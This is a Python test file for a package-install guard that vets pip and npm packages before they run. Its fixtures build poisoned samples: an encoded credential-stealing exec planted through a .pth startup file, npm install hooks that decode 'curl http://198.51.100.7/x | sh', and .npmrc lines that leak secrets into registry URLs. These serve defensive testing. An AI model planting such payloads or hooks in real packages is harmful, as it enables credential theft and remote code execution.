"""Nothing of a package runs or is installed before it was judged, and what is installed is what was judged."""
import io
import json
import os
import pathlib
import resource
import shutil
import signal
import subprocess
import sys
import tarfile
import tempfile
import threading
import time
import unittest

import world
from index import Index, integrity, sha256

YETT = world.YETT
LIMIT_S = 300
# Reads the environment and the credentials, and would send them to an address that is kept for documentation.
THIEF = ("import os, subprocess, sys, base64; exec(base64.b64decode('%s'))\n" % world.INNER).encode()


def wheel(name, version="1.0", files=None, requires=(), unlisted=None):
    """A wheel's bytes."""
    with tempfile.TemporaryDirectory() as tmp:
        path = world.wheel(pathlib.Path(tmp), name, version, files or {name + "/__init__.py": b"x = 1\n"})
        if not requires and not unlisted:
            return path.read_bytes()
        import zipfile
        out = io.BytesIO()
        with zipfile.ZipFile(path) as old, zipfile.ZipFile(out, "w") as new:
            contents = {n: old.read(n) for n in old.namelist()}
            meta = "%s-%s.dist-info/METADATA" % (name, version)
            lines = "".join("Requires-Dist: %s\n" % r for r in requires)
            contents[meta] = contents[meta].replace(b"\n\n", b"\n" + lines.encode() + b"\n")
            rows = [l for l in contents[meta.replace("METADATA", "RECORD")].decode().splitlines() if "METADATA" not in l]
            rows.append("%s,%s,%d" % (meta, world.digest(contents[meta]), len(contents[meta])))
            contents[meta.replace("METADATA", "RECORD")] = ("\n".join(rows) + "\n").encode()
            contents.update(unlisted or {})
            for n, data in contents.items():
                new.writestr(n, data)
        return out.getvalue()


def tgz(name, version="1.0.0", scripts=None, files=None, root="package"):
    files = dict(files or {"index.js": b"module.exports = 1\n"})
    files["package.json"] = json.dumps({"name": name, "version": version, "main": "index.js",
                                        **({"scripts": scripts} if scripts else {})}).encode()
    with tempfile.TemporaryDirectory() as tmp:
        return world.tar(pathlib.Path(tmp) / "x.tgz", {root + "/" + p: d for p, d in files.items()}).read_bytes()


class Base(unittest.TestCase):
    def setUp(self):
        self.dir = pathlib.Path(tempfile.mkdtemp(prefix="yett-install-"))
        self.addCleanup(shutil.rmtree, self.dir, True)
        self.data, self.home, self.mark = self.dir / "data", self.dir / "home", self.dir / "MARK"
        self.home.mkdir()
        self.index = Index()
        self.addCleanup(self.index.close)
        keep = {k: v for k, v in os.environ.items()
                if not k.upper().startswith(("PIP_", "NPM_CONFIG_", "PYTHON", "UV_", "XDG_", "VIRTUAL_ENV"))}
        self.env = dict(keep, HOME=str(self.home), PIP_CONFIG_FILE="/dev/null", PIP_INDEX_URL=self.index.url + "/simple",
                        NO_COLOR="1", npm_config_registry=self.index.url + "/npm/", MARK=str(self.mark),
                        npm_config_userconfig=str(self.home / "npmrc"), npm_config_update_notifier="false")

    def args(self, *args):
        words = list(map(str, args))
        return [YETT, *words[:2], "--data", str(self.data), *words[2:]]

    def run_yett(self, *args, code=0, **more):
        p = subprocess.run(self.args(*args), capture_output=True, text=True, errors="replace", timeout=LIMIT_S,
                           env=more.pop("env", self.env), stdin=subprocess.DEVNULL, **more)
        if code is not None:
            self.assertEqual(p.returncode, code, p.stdout[-4000:] + p.stderr[-4000:])
        self.assertEqual(self.leftovers(), [])
        return p

    def leftovers(self):
        base = self.data / "installs"
        return sorted(p.name for p in base.iterdir()) if base.exists() else []

    def wait_for(self, what, why):
        end = time.monotonic() + 120
        while not what():
            self.assertLess(time.monotonic(), end, why)
            time.sleep(0.05)

    def descendants(self, pid):
        """Of a process, by number; npm overwrites its command line."""
        try:
            own = [int(n) for t in pathlib.Path("/proc/%d/task" % pid).iterdir() for n in (t / "children").read_text().split()]
        except OSError:
            return []
        return own + [n for o in own for n in self.descendants(o)]

    def processes(self):
        """Those that have our data directory on their command line."""
        found = []
        for p in pathlib.Path("/proc").iterdir():
            try:
                if p.name.isdigit() and str(self.data).encode() in (p / "cmdline").read_bytes():
                    found.append(int(p.name))
            except OSError:
                pass
        return found


class Pip(Base):
    @classmethod
    def setUpClass(cls):
        cls.tmp = tempfile.TemporaryDirectory()
        cls.addClassCleanup(cls.tmp.cleanup)
        cls.venv = pathlib.Path(cls.tmp.name) / "venv"
        subprocess.run([sys.executable, "-m", "venv", cls.venv], check=True, capture_output=True)
        cls.python = str(cls.venv / "bin/python3")

    def setUp(self):
        super().setUp()
        self.site = self.dir / "site"
        self.index.files = {"good-1.0-py3-none-any.whl": wheel("good", requires=["companion>=1"]),
                            "companion-1.0-py3-none-any.whl": wheel("companion"),
                            "twin-1.0-py3-none-any.whl": wheel("twin", files={"twin/__init__.py": THIEF, "twin.pth": world.PTH.encode()},
                                                                 requires=["companion"]),
                            "odd-1.0-py3-none-any.whl": wheel("odd", unlisted={"odd/more.txt": b"not in RECORD\n"})}
        self.env["PATH"] = "%s:%s" % (self.venv / "bin", self.env["PATH"])

    def pip(self, *args, **more):
        return self.run_yett("pip", "install", "--target", self.site, *args, **more)

    def there(self):
        return sorted(p.name for p in self.site.iterdir()) if self.site.exists() else []

    def sdist(self, name="builds"):
        """A source archive that leaves a mark when anything builds it."""
        path = self.dir / (name + "-1.0.tar.gz")
        code = b"import os\nopen(os.environ['MARK'], 'w').write('ran')\nfrom setuptools import setup\nsetup(name='%s', version='1.0')\n"
        world.tar(path, {name + "-1.0/setup.py": code % name.encode(), name + "-1.0/PKG-INFO":
                         b"Metadata-Version: 2.1\nName: %s\nVersion: 1.0\n" % name.encode()})
        return path

    def test_good_ones_are_installed(self):
        p = self.pip("good")
        self.assertIn("judged 2: 2 pass", p.stdout)
        self.assertLessEqual({"good", "companion"}, set(self.there()))
        self.assertEqual((self.site / "good/__init__.py").read_bytes(), b"x = 1\n")
        self.assertFalse(list(self.site.rglob("direct_url.json")))

    def test_in_the_environment_itself(self):
        name = "venvful"
        self.index.files[name + "-1.0-py3-none-any.whl"] = wheel(name)
        self.run_yett("pip", "install", name)
        self.assertTrue(list(self.venv.rglob("venvful/__init__.py")))
        self.assertIn("nothing to install", self.run_yett("pip", "install", name).stdout)

    def test_a_poisoned_one_stops_all(self):
        p = self.pip("good", "twin", "--yes", code=2)
        self.assertIn("startup-exec", p.stdout)
        self.assertIn("nothing was installed", p.stdout)
        self.assertEqual(self.there(), [])
        out = json.loads(self.pip("good", "twin", "--json", code=2).stdout)
        self.assertEqual((out["verdict"], out["installed"]), ("block", False))
        self.assertEqual({r["target"]["sha256"] for r in out["reports"]},
                         {sha256(self.index.files[n + "-1.0-py3-none-any.whl"]) for n in ("good", "twin", "companion")})
        self.assertEqual(self.there(), [])

    def test_what_is_held_waits_for_a_word(self):
        p = self.pip("odd", code=1)
        self.assertIn("--yes", p.stdout)
        self.assertEqual(self.there(), [])
        policy = self.dir / "policy.yaml"
        policy.write_text("version: 1\nallow:\n  - { rule: record-unlisted, package: 'pkg:pypi/odd', reason: ours, until: %s }\n"
                          % time.strftime("%Y-%m-%d", time.gmtime(time.time() + 86400 * 30)))
        self.pip("odd", "--policy", policy, "--dry-run")
        self.assertEqual(self.there(), [])
        self.pip("odd", "--yes")
        self.assertIn("odd", self.there())

    def test_nothing_is_built(self):
        sdist = self.sdist()
        project = self.dir / "builds-1.0"
        with tarfile.open(sdist) as t:
            t.extractall(self.dir)
        (self.dir / "r.txt").write_text("--no-binary :all:\n%s\n" % sdist)
        (self.dir / "e.txt").write_text("-e %s\n" % project)
        self.index.files["hook-1.0-py3-none-any.whl"] = wheel("hook", requires=["builds @ file://%s" % sdist])
        self.index.files[sdist.name] = sdist.read_bytes()
        for args, code in [([sdist], 77), ([project], 77), (["-e", project], 77), (["builds @ file://%s" % sdist], 77),
                           (["git+file://%s" % project], 77), (["--no-binary", ":all:", "builds"], 77),
                           (["--report", "x", "good"], 64), (["--unknown", "good"], 64), (["-r", self.dir / "r.txt"], 69),
                           (["-r", self.dir / "e.txt"], 69), (["hook"], 69), (["builds"], 77)]:
            with self.subTest(args=args):
                p = self.pip(*args, code=code)
                self.assertFalse(self.mark.exists())
                self.assertEqual(self.there(), [])
                self.assertIn("yett: ", p.stderr)
                if code == 69:
                    self.assertIn("build a wheel where that does no harm", p.stderr)

    def test_a_file_has_no_secret_sent(self):
        self.env["SECRET"] = "s3cret"
        text = "good\n--index-url %s/${SECRET}/simple\n" % self.index.url
        inner = self.dir / "in.txt"
        for outer, nested in [(text.encode(), ""), (text.encode("utf-16"), ""), (b"# coding utf-8, coding= utf-7\n" + text.encode("utf-7"), ""),
                              (b"good\n-r in.txt\n", text), (b"good\n--constraint=./in.txt\n", text),
                              (b"-r \\\n in.txt\n", text), (b"-r %s/in.txt\n" % self.index.url.encode(), ""),
                              (b"good\n-r 'i'n.txt\n", text), (b"-r i\\n.txt\n", text), (b"--pre '-r' in.txt\n", text),
                              (b"--find-links 'a b' -r in.txt\n", text), (text.encode() + b"#" * (16 << 20), "")]:
            with self.subTest(outer=outer):
                (self.dir / "r.txt").write_bytes(outer)
                inner.write_text(nested)
                self.assertIn("--yes", self.pip("-r", "r.txt", code=77, cwd=self.dir).stderr)
                self.assertEqual(self.index.seen, [])
        (self.dir / "r.txt").write_text("# ${SECRET} is no variable here\n-c in.txt\ngood\n")
        inner.write_text("good==1.0\n")
        self.pip("-r", self.dir / "r.txt")
        self.assertIn("good", self.there())

    def test_pip_in_this_directory_is_not_taken(self):
        (self.dir / "pip.py").write_text("open(%r, 'w')\n" % str(self.mark))
        if subprocess.run([self.python, "-c", "import sys; sys.exit(sys.version_info < (3, 11))"]).returncode:
            self.skipTest("an interpreter before 3.11 takes modules from where it stands")
        self.pip("good", cwd=self.dir)
        self.assertFalse(self.mark.exists())

    def wrapper(self, code):
        """An interpreter in front of the real one, which does code first when pip is to install for good."""
        path = self.dir / "python3"
        path.write_text("#!%s\nimport os, sys, pathlib, time\nargs = sys.argv[1:]\nif '--dry-run' not in args and 'install' in args:\n"
                        "    private = pathlib.Path(args[args.index('--find-links') + 1])\n    %s\n"
                        "os.execv(%r, [%r, *args])\n" % (self.python, code.replace("\n", "\n    "), self.python, self.python))
        path.chmod(0o755)
        return path

    def test_a_pip_that_fails_is_told(self):
        """Also where whoever started us has SIGCHLD ignored, so that the kernel keeps no exit status."""
        fails = self.dir / "fails"
        fails.write_text("#!/bin/sh\nexit 3\n")
        fails.chmod(0o755)
        ignore = lambda: signal.signal(signal.SIGCHLD, signal.SIG_IGN)
        p = self.pip("--python", fails, "good", code=69, preexec_fn=ignore)
        self.assertIn("ended with status 3", p.stderr)

    def test_bytes_that_change_after_they_were_judged(self):
        evil = self.dir / "evil.whl"
        evil.write_bytes(wheel("good", files={"good/__init__.py": b"evil = 1\n"}))
        python = self.wrapper("for f in private.glob('good-*'): f.write_bytes(pathlib.Path(%r).read_bytes())" % str(evil))
        p = self.pip("--python", python, "good", code=69)
        self.assertIn("HASH", p.stderr.upper())
        self.assertEqual(self.there(), [])

    def test_an_index_that_lies(self):
        name = "good-1.0-py3-none-any.whl"
        other = wheel("good", files={"good/__init__.py": b"other = 1\n"})
        self.index.lies[name] = other
        self.pip("good", code=69)
        self.index.lies = {}
        self.index.swap[name] = other # the second time it is asked
        self.pip("good", "--no-cache-dir", code=69)
        self.assertEqual(self.there(), [])

    def test_an_index_that_is_away(self):
        self.pip("-i", "http://127.0.0.1:9/simple", "--retries", "0", "good", code=69)
        self.assertEqual(self.there(), [])

    def test_cooldown(self):
        policy = self.dir / "policy.yaml"
        policy.write_text("version: 1\ncooldown_days: 7\n")
        self.index.days = 2
        p = self.pip("good", "--policy", policy, code=1)
        self.assertIn("[cooldown]", p.stdout)
        self.assertEqual(self.there(), [])
        self.index.days = None
        self.env.pop("PIP_INDEX_URL")
        named = "-i", self.index.url + "/simple"
        out = json.loads(self.pip("companion", *named, "--policy", policy, "--json", "--dry-run").stdout)
        self.assertEqual({f["rule"] for r in out["reports"] for f in r["findings"]}, {"release-age-unknown"})
        self.assertFalse(out["installed"])
        self.index.days = 30
        out = json.loads(self.pip("companion", *named, "--policy", policy, "--json").stdout)
        self.assertEqual((out["verdict"], out["installed"]), ("pass", True))
        self.assertEqual({f["rule"] for r in out["reports"] for f in r["findings"]}, set())

    def test_killed_while_it_fetches(self):
        self.index.wait = threading.Event()
        p = subprocess.Popen(self.args("pip", "install", "--target", self.site, "good"), env=self.env,
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        self.assertTrue(self.index.begun.wait(120))
        p.send_signal(signal.SIGKILL)
        p.wait()
        self.wait_for(lambda: not self.processes(), "pip outlives yett")
        self.index.wait.set()
        self.index.wait = None
        self.assertEqual(len(self.leftovers()), 1)
        self.assertEqual(self.there(), [])
        self.pip("good") # sweeps; run_yett looks for what is left

    def test_killed_while_it_installs(self):
        go, begun = self.dir / "go", self.dir / "begun"
        python = self.wrapper("pathlib.Path(%r).touch()\nwhile not pathlib.Path(%r).exists(): time.sleep(0.05)"
                              % (str(begun), str(go)))
        p = subprocess.Popen(self.args("pip", "install", "--target", self.site, "--python", python, "good"), env=self.env,
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        self.wait_for(begun.exists, "pip never installs")
        p.send_signal(signal.SIGKILL)
        p.wait()
        # What pip is at work on is not swept by another one.
        subprocess.run(self.args("pip", "install", "--target", self.dir / "other", "companion"), env=self.env, check=True,
                       capture_output=True, timeout=LIMIT_S)
        self.assertEqual(len(self.leftovers()), 1)
        go.touch()
        self.wait_for(lambda: not self.processes(), "pip does not end")
        self.assertLessEqual({"good", "companion"}, set(self.there()))
        self.pip("good", "--upgrade")

    def test_no_room(self):
        self.index.files["big-1.0-py3-none-any.whl"] = wheel("big", files={"big/data.bin": os.urandom(4 << 20)})
        p = self.pip("big", code=None, preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_FSIZE, (1 << 20, 1 << 20)))
        self.assertGreaterEqual(p.returncode, 64)
        self.assertEqual(self.there(), [])

    def test_detonation(self):
        out = json.loads(self.pip("companion", "--detonate", "--json", "--dry-run", code=None).stdout)
        outcome = out["reports"][0]["detonation"]["outcome"]
        if outcome != "complete":
            self.assertEqual(out["verdict"], "inconclusive")
            self.skipTest("this system has no sandbox: " + outcome)
        self.assertEqual(out["verdict"], "pass")

    def test_the_real_index(self):
        env = dict(os.environ, HOME=str(self.home))
        probe = subprocess.run([self.python, "-m", "pip", "download", "-q", "--no-deps", "--retries", "0", "--timeout", "15",
                                "--only-binary", ":all:", "-d", self.dir / "probe", "six==1.16.0"], env=env, capture_output=True)
        if probe.returncode:
            self.skipTest("no index of Python packages can be reached")
        self.pip("six==1.16.0", env=env)
        self.assertIn("six.py", self.there())


def npm_missing():
    return shutil.which("npm") is None


@unittest.skipIf(npm_missing(), "there is no npm")
class Npm(Base):
    def setUp(self):
        super().setUp()
        run = "node -e \"require('fs').writeFileSync(process.env.MARK, 'ran')\""
        self.index.files = {
            "good-1.0.0.tgz": tgz("good", scripts={"postinstall": run}),
            "s-scoped-1.0.0.tgz": tgz("@s/scoped"),
            "axios-1.14.1.tgz": tgz("axios", "1.14.1", scripts={"postinstall": run}),
            "twin-1.0.0.tgz": tgz("twin", scripts={"preinstall": run, "postinstall": "node x.js"}, files={
                "x.js": b"require('child_process').execSync(Buffer.from('Y3VybCBodHRwOi8vMTk4LjUxLjEwMC43L3ggfCBzaA==', 'base64')"
                        b".toString())\n"})}
        self.project = self.dir / "project"
        self.project.mkdir()

    def lock(self, *names, places=True, **changes):
        packages = {"": {"name": "project", "version": "1.0.0", "dependencies": {}}}
        for name in names:
            file = next(f for f in self.index.files if f.startswith(name.replace("@", "").replace("/", "-") + "-"))
            version = file.rsplit("-", 1)[1][:-4]
            packages[""]["dependencies"][name] = version
            row = {"version": version, "integrity": integrity(self.index.files[file])}
            if places:
                row["resolved"] = "https://registry.npmjs.org/%s/-/%s-%s.tgz" % (name, name.split("/")[-1], version)
            row.update(changes)
            packages["node_modules/" + name] = {k: v for k, v in row.items() if v is not None}
        (self.project / "package.json").write_text(json.dumps(packages[""]))
        (self.project / "package-lock.json").write_text(json.dumps(
            {"name": "project", "version": "1.0.0", "lockfileVersion": 3, "packages": packages}, indent=1))

    def npm(self, *args, **more):
        return self.run_yett("npm", "ci", *args, cwd=self.project, **more)

    def there(self):
        base = self.project / "node_modules"
        return sorted(p.name for p in base.iterdir() if p.name[0] != ".") if base.exists() else []

    def nothing(self):
        self.assertEqual(self.there(), [])
        self.assertFalse(self.mark.exists())

    def test_good_ones_are_installed(self):
        for places in (True, False):
            with self.subTest(places=places):
                self.lock("good", "@s/scoped", places=places)
                self.assertIn("judged 3: 3 pass", self.npm().stdout)
                self.assertEqual(self.there(), ["@s", "good"])
                shutil.rmtree(self.project / "node_modules")

    def test_a_poisoned_one_stops_all(self):
        self.lock("good", "twin")
        p = self.npm("--yes", code=2)
        self.assertIn("nothing was installed", p.stdout)
        self.nothing()
        out = json.loads(self.npm("--json", code=2).stdout)
        self.assertEqual((out["verdict"], out["installed"]), ("block", False))

    def test_scripts_of_the_project_itself(self):
        bad = b"require('child_process').execSync(Buffer.from('Y3VybCBodHRwOi8vMTk4LjUxLjEwMC43L3ggfCBzaA==', 'base64').toString())\n"
        mark = "require('fs').writeFileSync(process.env.MARK, 'ran')"
        member = self.project / "packages/m"
        member.mkdir(parents=True)
        for root, own in [({"scripts": {"prepare": "npm run other", "other": "node x.js"}}, {}),
                          ({"workspaces": ["packages/*"]}, {"scripts": {"postinstall": "node ../../x.js"}})]:
            with self.subTest(root=root):
                self.lock("good")
                for name, more in [("package.json", root), ("packages/m/package.json", dict(own, name="m", version="1.0.0"))]:
                    file = self.project / name
                    old = json.loads(file.read_text()) if name == "package.json" else {}
                    file.write_text(json.dumps(dict(old, **more)))
                lock = json.loads((self.project / "package-lock.json").read_text())
                lock["packages"][""].update({k: v for k, v in root.items() if k == "workspaces"})
                if "workspaces" in root:
                    lock["packages"]["node_modules/m"] = {"resolved": "packages/m", "link": True}
                    lock["packages"]["packages/m"] = {"version": "1.0.0", "name": "m", "hasInstallScript": True}
                (self.project / "package-lock.json").write_text(json.dumps(lock))
                (self.project / "x.js").write_bytes(bad)
                self.assertIn("fetch-and-run", self.npm("--yes", code=2).stdout)
                self.nothing()
                self.npm("--ignore-scripts")
                self.assertIn("good", self.there())
                self.assertFalse(self.mark.exists())
                shutil.rmtree(self.project / "node_modules")
                (self.project / "x.js").write_text(mark + "\n")
                self.assertIn("judging the project itself", self.npm().stderr)
                self.assertTrue(self.mark.exists())
                self.mark.unlink()
                shutil.rmtree(self.project / "node_modules")

    def test_what_is_known_is_not_even_fetched(self):
        self.lock("good", "axios")
        p = self.npm(code=2)
        self.assertIn("known-malware", p.stdout)
        self.assertEqual([s for s in self.index.seen if s.endswith(".tgz")], [])
        self.nothing()

    def test_what_is_not_pinned(self):
        for changes, code in [(dict(integrity=None), 77), (dict(integrity="sha1-" + "A" * 27 + "="), 77),
                              (dict(resolved="git+ssh://git@github.com/u/r.git#" + "a" * 40), 77),
                              (dict(resolved="https://github.com/u/r", integrity=integrity(b"x")), 77),
                              (dict(version="github:u/r"), 77), (dict(resolved="file:../x.tgz"), 77)]:
            with self.subTest(**changes):
                self.lock("good", **changes)
                self.npm("--yes", code=code)
                self.nothing()
        (self.project / "package-lock.json").unlink()
        self.npm(code=66)
        for args in (["left-pad"], ["--cache", "x"], ["--no-offline"], ["--", "x"]):
            self.npm(*args, code=64)

    def test_a_registry_that_lies(self):
        self.lock("good", places=False)
        other = tgz("good", files={"index.js": b"other\n"})
        self.index.files["good-1.0.0.tgz"] = other
        p = self.npm(code=77)
        self.assertIn("demands", p.stderr)
        self.nothing()

    def wrapper(self, code):
        """An npm in front of the real one, which does code first when it is to install for good."""
        bin = self.dir / "bin"
        bin.mkdir(exist_ok=True)
        real = shutil.which("npm")
        (bin / "npm").write_text("#!%s\nimport os, sys, pathlib\nargs = sys.argv[1:]\nif args[:1] == ['ci']:\n"
                                 "    cache = pathlib.Path(args[args.index('--cache') + 1])\n    %s\nos.execv(%r, ['npm', *args])\n"
                                 % (sys.executable, code, real))
        (bin / "npm").chmod(0o755)
        return dict(self.env, PATH="%s:%s" % (bin, self.env["PATH"]))

    def test_bytes_that_change_after_they_were_judged(self):
        self.lock("good")
        evil = self.dir / "evil.tgz"
        evil.write_bytes(self.index.files["twin-1.0.0.tgz"])
        env = self.wrapper("[f.write_bytes(pathlib.Path(%r).read_bytes()) for f in cache.glob('_cacache/content-v2/sha512/*/*/*')]"
                           % str(evil))
        self.npm(code=69, env=env)
        self.nothing()

    def test_a_lock_file_that_changes_after_it_was_judged(self):
        self.lock("twin")
        evil = (self.project / "package-lock.json").read_text()
        manifest = (self.project / "package.json").read_text()
        self.lock("good")
        env = self.wrapper("pathlib.Path('package-lock.json').write_text(%r); pathlib.Path('package.json').write_text(%r)"
                           % (evil, manifest))
        self.npm(code=69, env=env)
        self.nothing()

    def test_the_project_has_no_secret_sent(self):
        self.lock("good")
        host = self.index.url[5:]
        self.env["SECRET"] = "s3cret"
        for text in ("%s/:_authToken=${SECRET}\n" % host.replace("127.0.0.1", "localhost"), "registry=%s/${SECRET}/\n" % self.index.url,
                     "script-shell = ./x.sh\n", "\"script\\u002dshell\"=./x.sh\n", "node-options[] = -r ./x.js\n",
                     "@s:registry=http://localhost:1/\r//localhost:1/:_authToken=${SECRET}\n",
                     "registry=\"%s/\\u0024{SECRET}/\"\n" % self.index.url, "userconfig=./other\n", "globalconfig = ./other\n",
                     "prefix=.\n", "script-shell;=./x.sh\n", "\ufeffscript-shell=./x.sh\n", "\u00a0git#=./x.sh\n"):
            (self.project / "other").write_text("registry=%s/${SECRET}/\n" % self.index.url)
            (self.project / "etc").mkdir(exist_ok=True)
            shutil.copy(self.project / "other", self.project / "etc/npmrc")
            with self.subTest(text=text):
                (self.project / ".npmrc").write_text(text)
                self.assertIn(".npmrc:", self.npm(code=77).stderr)
                self.nothing()
        self.assertEqual([s for s in self.index.seen if "s3cret" in s], [])
        # The registry is the user's own choice, so it may get what the project names.
        (self.project / ".npmrc").write_text("%s/npm/:_authToken=${SECRET}\ncache=${HOME}/x\n" % host)
        self.npm()
        self.assertEqual(self.there(), ["good"])

    def test_cooldown(self):
        policy = self.dir / "policy.yaml"
        policy.write_text("version: 1\ncooldown_days: 7\n")
        self.lock("good")
        self.index.days = 2
        self.assertIn("[cooldown]", self.npm("--policy", policy, code=1).stdout)
        self.nothing()
        self.index.days = 30
        self.npm("--policy", policy)
        self.assertEqual(self.there(), ["good"])

    def test_for_other_machines(self):
        self.lock("good", "@s/scoped")
        lock = json.loads((self.project / "package-lock.json").read_text())
        lock["packages"]["node_modules/@s/scoped"].update(optional=True, os=["darwin"])
        lock["packages"][""]["optionalDependencies"] = {"@s/scoped": lock["packages"][""]["dependencies"].pop("@s/scoped")}
        (self.project / "package-lock.json").write_text(json.dumps(lock))
        (self.project / "package.json").write_text(json.dumps(lock["packages"][""]))
        self.assertIn("1 optional", self.npm().stderr)
        self.assertEqual(self.there(), ["good"])

    def test_killed_while_it_fetches(self):
        self.lock("good")
        self.index.wait = threading.Event()
        p = subprocess.Popen(self.args("npm", "ci"), env=self.env, cwd=self.project, stdout=subprocess.DEVNULL,
                             stderr=subprocess.DEVNULL)
        self.assertTrue(self.index.begun.wait(120))
        children = self.descendants(p.pid)
        self.assertTrue(children)
        p.send_signal(signal.SIGKILL)
        p.wait()
        self.wait_for(lambda: not any(os.path.exists("/proc/%d" % c) for c in children), "npm outlives yett")
        self.index.wait.set()
        self.index.wait = None
        self.nothing()
        self.npm()
        self.assertEqual(self.there(), ["good"])

    def test_the_real_registry(self):
        env = {k: v for k, v in os.environ.items()}
        (self.project / "package.json").write_text('{"name":"p","version":"1.0.0","dependencies":{"left-pad":"1.3.0"}}')
        probe = subprocess.run(["npm", "install", "--package-lock-only", "--no-audit", "--fetch-retries=0", "--fetch-timeout=15000"],
                               cwd=self.project, env=env, capture_output=True)
        if probe.returncode:
            self.skipTest("no registry of npm can be reached")
        self.npm(env=env)
        self.assertEqual(self.there(), ["left-pad"])


if __name__ == "__main__":
    unittest.main()
